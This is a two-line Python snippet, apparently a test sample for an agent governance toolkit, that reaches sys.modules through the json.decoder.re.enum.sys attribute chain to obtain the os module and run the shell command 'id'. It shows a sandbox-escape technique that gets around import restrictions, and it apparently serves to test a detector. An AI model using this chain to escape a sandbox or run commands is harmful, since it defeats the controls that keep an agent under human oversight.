# Source: https://github.com/microsoft/agent-governance-toolkit/pull/2631
# Family: sys-modules
# What: json.decoder.re.enum.sys: from json through re and enum to sys.modules
import json
json.decoder.re.enum.sys.modules["os"].system("id")
